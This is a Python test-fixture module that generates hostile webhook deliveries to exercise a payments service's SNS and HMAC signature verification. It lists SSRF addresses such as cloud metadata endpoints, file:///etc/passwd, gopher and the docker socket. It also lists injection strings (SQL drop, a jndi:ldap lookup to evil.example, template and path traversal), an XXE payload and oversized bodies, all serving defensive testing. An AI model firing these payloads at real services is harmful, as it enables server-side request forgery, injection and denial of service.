"""Hostile deliveries, made by rule: the same ones at every run. None of them is signed by a live key as it stands."""

import base64
import hashlib
import json
from collections.abc import Iterator
from typing import Any

from tests.verifiers import senders
from tests.verifiers.amazon import ARN, CERT_URL, HOST, SUBSCRIBE_URL, TOKEN, delivery, envelope, key
from vextrus_payments.events import Delivery

REGION_HOSTS = (HOST, "sns.us-east-1.amazonaws.com", "sns.cn-north-1.amazonaws.com.cn")
CERT_PATH = "/SimpleNotificationService-0123456789abcdef0123456789abcdef.pem"

_HOSTS = (
    "evil.example",
    "sns.ap-southeast-1.amazonaws.com.evil.example",
    "evil.example#sns.ap-southeast-1.amazonaws.com",
    "evil.example?sns.ap-southeast-1.amazonaws.com",
    "evil.example\\@sns.ap-southeast-1.amazonaws.com",
    "evil.example/sns.ap-southeast-1.amazonaws.com",
    "user@sns.ap-southeast-1.amazonaws.com",
    "user:word@sns.ap-southeast-1.amazonaws.com",
    "sns.ap-southeast-1.amazonaws.com@evil.example",
    "sns.ap-southeast-1.amazonaws.com:443",
    "sns.ap-southeast-1.amazonaws.com:80",
    "sns.ap-southeast-1.amazonaws.com:",
    "sns.ap-southeast-1.amazonaws.com.",
    "sns.ap-southeast-1.amazonaws.com%00.evil.example",
    "sns.ap-southeast-1.amazonaws.com%2eevil.example",
    "sns.ap-southeast-1.amazonaws.com\t",
    "sns.ap-southeast-1.amazonaws.com\n.evil.example",
    "sns.ap-southeast-1.amazonaws.com .evil.example",
    "SNS.AP-SOUTHEAST-1.AMAZONAWS.COM",
    "sns.ap-southeast-1.amazonaws。com",
    "sns.ap-southeast-1.amazonaws．com",
    "ѕns.ap-southeast-1.amazonaws.com",
    "xn--ns-qgc.ap-southeast-1.amazonaws.com",
    "sns.us-east-1.amazonaws.com",
    "sns.ap-southeast-2.amazonaws.com",
    "sns.ap-southeast-1.amazonaws.com.cn",
    "sns.ap-southeast-1.amazonaws.co",
    "snsxap-southeast-1.amazonaws.com",
    "sns-ap-southeast-1.amazonaws.com",
    "sns.ap-southeast-1xamazonaws.com",
    "s3.ap-southeast-1.amazonaws.com",
    "sns.s3.amazonaws.com",
    "sns.ap-southeast-1.s3.amazonaws.com",
    "bucket.s3.ap-southeast-1.amazonaws.com",
    "sns.aaa.amazonaws.com",
    "amazonaws.com",
    "127.0.0.1",
    "localhost",
    "localhost:22",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "0x7f000001",
    "2130706433",
    "0",
    "10.0.0.1",
    "192.168.0.1",
    "169.254.169.254",
    "[fd00:ec2::254]",
    "metadata.google.internal",
    "169.254.169.254.nip.io",
    "",
    "..",
    "%",
    "\x00",
)
_SCHEMES = ("https://", "http://")
_PATHS = (
    "/SimpleNotificationService-.pem",
    "/SimpleNotificationService-zz.pem",
    "/SimpleNotificationService-0123.pem.evil",
    "/SimpleNotificationService-0123.pem?x=1",
    "/SimpleNotificationService-0123.pem#x",
    "/SimpleNotificationService-0123.pem/",
    "/SimpleNotificationService-0123.pem%00",
    "/SimpleNotificationService-0123.PEM",
    "/SimpleNotificationService-0123.pem\n",
    "//SimpleNotificationService-0123.pem",
    "/../SimpleNotificationService-0123.pem",
    "/x/SimpleNotificationService-0123.pem",
    "/SimpleNotificationService-0123",
    "/?Action=ConfirmSubscription&Token=1",
    "/SimpleNotificationService-" + "0" * 5_000 + ".pem",
    "",
    "/",
    "/.pem",
    "\\SimpleNotificationService-0123.pem",
)
_OTHERS = (
    "",
    "x",
    "://",
    "https:",
    "https:/" + HOST + CERT_PATH,
    "https:///" + HOST + CERT_PATH,
    "//" + HOST + CERT_PATH,
    "HTTPS://" + HOST + CERT_PATH,
    " https://" + HOST + CERT_PATH,
    "https://" + HOST + CERT_PATH + " ",
    "http://" + HOST + CERT_PATH,
    "ftp://" + HOST + CERT_PATH,
    "file:///etc/passwd",
    "file://" + HOST + CERT_PATH,
    "gopher://" + HOST + "/_x",
    "data:application/x-pem-file;base64,AAAA",
    "javascript:alert(1)",
    "unix:///var/run/docker.sock",
    "dict://127.0.0.1:6379/info",
    "ldap://evil.example",
    "https://" + HOST + "\r\nHost: evil.example" + CERT_PATH,
    "https://" + HOST + ":443@evil.example" + CERT_PATH,
    "h\u200bttps://" + HOST + CERT_PATH,
    "https\uff1a//" + HOST + CERT_PATH,
    "null",
    "undefined",
    "%68ttps://" + HOST + CERT_PATH,
    "jar:https://" + HOST + CERT_PATH,
)


def hostile_cert_urls() -> list[str]:
    """Addresses that no certificate of the pinned topic lives at."""
    found = [scheme + host + CERT_PATH for scheme in _SCHEMES for host in _HOSTS]
    found += [f"https://{HOST}{path}" for path in _PATHS]
    return list(dict.fromkeys([*found, *_OTHERS]))


def hostile_subscribe_urls() -> list[str]:
    """Addresses that the pinned topic's subscription is not confirmed at."""
    query = f"/?Action=ConfirmSubscription&TopicArn={ARN}&Token={TOKEN}"
    found = [scheme + host + query for scheme in _SCHEMES for host in _HOSTS]
    found += [other.replace(CERT_PATH, query) for other in _OTHERS]
    found += [
        f"https://{HOST}/?Action=Unsubscribe&TopicArn={ARN}&Token={TOKEN}",
        f"https://{HOST}/?Action=ConfirmSubscription&TopicArn={ARN}&Token={TOKEN}x",
        f"https://{HOST}/?Action=ConfirmSubscription&TopicArn={ARN}x&Token={TOKEN}",
        f"https://{HOST}/?Action=ConfirmSubscription&Action=Publish&TopicArn={ARN}&Token={TOKEN}",
        f"https://{HOST}/?Action=ConfirmSubscription&TopicArn={ARN}&Token={TOKEN}&x=1",
        f"https://{HOST}/?Action=ConfirmSubscription&TopicArn={ARN}",
        f"https://{HOST}/x?Action=ConfirmSubscription&TopicArn={ARN}&Token={TOKEN}",
        f"https://{HOST}?Action=ConfirmSubscription&TopicArn={ARN}&Token={TOKEN}",
        f"https://{HOST}/?Action=ConfirmSubscription&TopicArn={ARN}&Token={TOKEN}#x",
        f"https://{HOST}/",
    ]
    return list(dict.fromkeys(found))


# --- deliveries -------------------------------------------------------------------------------------------------------

_JUNK_VALUES: tuple[Any, ...] = (
    None, True, 0, -1, 1.5, "", " ", "\n", "\x00", "\u202e", "\ud800", [], {}, ["x"], {"a": "b"}, "x" * 70_000,
    "'; DROP TABLE payments;--", "${jndi:ldap://evil.example/x}", "{{7*7}}", "../../etc/passwd", "\x1b[31m",
)  # fmt: skip
_JUNK_BODIES = (
    b"",
    b" ",
    b"{",
    b"}",
    b"[]",
    b"[[]]",
    b"null",
    b"true",
    b"0",
    b'""',
    b"\x00" * 1000,
    b"\xff\xfe\xfd",
    b"\xef\xbb\xbf{}",
    b"\xef\xbb\xbf",
    b"{}" * 2,
    b'{"a":1,"a":2}',
    b'{"Type":NaN}',
    b'{"Type":-Infinity}',
    b'{"Type":1e999}',
    b'{"Type":"Notification"}',
    b"[" * 200_000,
    b'{"a":' * 40_000 + b"1" + b"}" * 40_000,
    b'{"a":' + b"9" * 250_000 + b"}",
    b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    b"payment_id=1&status=success",
    b"\x1f\x8b\x08\x00" + b"\x00" * 50,
    b"PK\x03\x04",
    b'{"Type":"Notification","Message":"\\ud800"}',
    b"a" * 300_000,
)
_SIGNATURE_HEADERS = ("x-webhook-signature", "webhook-signature", "x-signature", "signature", "webhook-id")
_JUNK_SIGNATURES = (
    "", "x", "v1", "v1,", "v1a,", "v0,AAAA", "v1,AAAA", "0" * 64, "f" * 64, "A" * 43 + "=", "A" * 44,
    "sha256=" + "0" * 64, "v1," + "A" * 43 + "=", "v1a," + "A" * 86 + "==", "v1,A " * 40, "é", "\x00",
    " ".join(["v1," + "A" * 43 + "="] * 16), "t=1,v1=00", "none", "null", "," * 100, " ", "%00", "AAAA\r\nX: y",
)  # fmt: skip


def hostile_deliveries() -> Iterator[tuple[str, Delivery]]:
    """(what it is, the delivery); at least 2,000."""
    yield from _junk()
    yield from _changed_envelopes()
    yield from _addresses()
    yield from _changed_hmacs()
    yield from _mixed()


def _junk() -> Iterator[tuple[str, Delivery]]:
    for number, body in enumerate(_JUNK_BODIES):
        yield f"junk body {number}", delivery(body)
        for header in _SIGNATURE_HEADERS:
            for n, text in enumerate(_JUNK_SIGNATURES[:6]):
                yield f"junk body {number}, {header} {n}", delivery(body, {header: text})
    for header in _SIGNATURE_HEADERS:
        for n, text in enumerate(_JUNK_SIGNATURES):
            extra = {"webhook-id": "m", "webhook-timestamp": "1772366400"}
            yield f"good body, {header} {n}", delivery(senders.relayed(), {**extra, header: text})


def _changed_envelopes() -> Iterator[tuple[str, Delivery]]:
    for kind in ("Notification", "SubscriptionConfirmation", "UnsubscribeConfirmation"):
        good = envelope(kind, Subject="ab" if kind == "Notification" else None)
        for name in good:
            for n, junk in enumerate(_JUNK_VALUES):
                yield f"{kind}.{name} = junk {n}", delivery({**good, name: junk})
            yield f"{kind} without {name}", delivery({k: v for k, v in good.items() if k != name})
            yield f"{kind}.{name} twice", _doubled(good, name)
            for other in (name.lower(), name.upper(), f"{name} ", f"\ufeff{name}"):
                renamed = {(other if k == name else k): v for k, v in good.items()}
                yield f"{kind}.{name} as {other!r}", delivery(renamed)
            if name not in ("SigningCertURL", "Signature", "SignatureVersion"):
                for n, change in enumerate(
                    (f"{good[name]}x", good[name][:-1], f"x{good[name]}", good[name][::-1])
                ):
                    yield f"{kind}.{name} changed {n}", delivery({**good, name: change})
        raw = json.dumps(good).encode()
        for place in range(0, len(raw), 23):
            yield f"{kind} cut at {place}", delivery(raw[:place])
    for number in range(60):
        yield f"another key, {number}", delivery(envelope(by=key(7), MessageId=f"m{number}"))
    for version in ("0", "3", "1.0", "v2", "SHA256", "none", "１"):
        yield f"version {version}", delivery({**envelope(), "SignatureVersion": version})
    for arn in (ARN + "x", ARN.upper(), ARN.replace("123", "999"), "*", "arn:aws:sns:*:*:*", ARN + "\n"):
        yield f"topic {arn!r}", delivery(envelope(TopicArn=arn))
    for length in (0, 1, 255, 256, 257, 512):
        sig = base64.b64encode(hashlib.sha512(b"%d" % length).digest() * 8)[: length * 4 // 3 // 4 * 4]
        yield f"signature of {length}", delivery({**envelope(), "Signature": sig.decode()})


def _doubled(good: dict[str, Any], name: str) -> Delivery:
    raw = json.dumps(good)
    return delivery(raw.replace(f'"{name}":', f'"{name}": "other", "{name}":', 1).encode())


def _addresses() -> Iterator[tuple[str, Delivery]]:
    for url in hostile_cert_urls():
        yield f"certificate at {url[:80]!r}", delivery(envelope(SigningCertURL=url, sign=True))
    for url in hostile_subscribe_urls():
        yield (
            f"confirm at {url[:80]!r}",
            delivery({**envelope("SubscriptionConfirmation"), "SubscribeURL": url}),
        )
        yield (
            f"farewell at {url[:80]!r}",
            delivery({**envelope("UnsubscribeConfirmation"), "SubscribeURL": url}),
        )
    other = f"https://{HOST}/SimpleNotificationService-ffff.pem"
    for version in ("1", "2"):
        yield (
            "certificate that is not there",
            delivery(envelope(SigningCertURL=other, SignatureVersion=version)),
        )
    assert CERT_URL and SUBSCRIBE_URL


def _changed_hmacs() -> Iterator[tuple[str, Delivery]]:
    body = senders.raw(senders.relayed())
    recurred = senders.raw({"timeStamp": "2026-03-01T12:00:00Z", "paymentStatus": "SUCCEEDED_PAYMENT"})
    for good in (senders.by_relay(body), senders.by_standard(body), senders.by_recurring(recurred)):
        for place in range(0, len(good.body), 5):
            changed = good.body[:place] + bytes([good.body[place] ^ 0x20]) + good.body[place + 1 :]
            yield f"changed at {place}", delivery(changed, good.headers)
            yield f"cut at {place}", delivery(good.body[:place], good.headers)
        for name, value in good.headers.items():
            if name in ("content-type", "x-type"):
                continue
            for n, junk in enumerate(_JUNK_SIGNATURES):
                yield f"{name} = junk {n}", delivery(good.body, {**good.headers, name: junk})
            yield f"{name} turned", delivery(good.body, {**good.headers, name: value[::-1]})
    for secret in ("", "x", "secret-of-a-test", "key-of-a-test", "word-of-a-test", senders.RELAY[:-1], ARN):
        yield f"relay under {secret!r}", senders.by_relay(body, secret)
        yield f"recurring under {secret!r}", senders.by_recurring(recurred, key=secret.encode() or b"\0")


def _mixed() -> Iterator[tuple[str, Delivery]]:
    """A good signature of one sender beside the body of another."""
    body = senders.raw(senders.relayed())
    goods = (senders.by_relay(body), senders.by_standard(body), senders.by_recurring(body))
    sns = delivery(envelope())
    for first in goods:
        for second in (*goods, sns):
            if first is not second:
                yield "foreign headers", delivery(second.body + b" ", first.headers)
        yield "sns under another header", delivery(sns.body, first.headers)
        swapped = {"x-webhook-signature": "0" * 64, **{f"x-{k}": v for k, v in first.headers.items()}}
        yield "renamed headers", delivery(first.body, swapped)
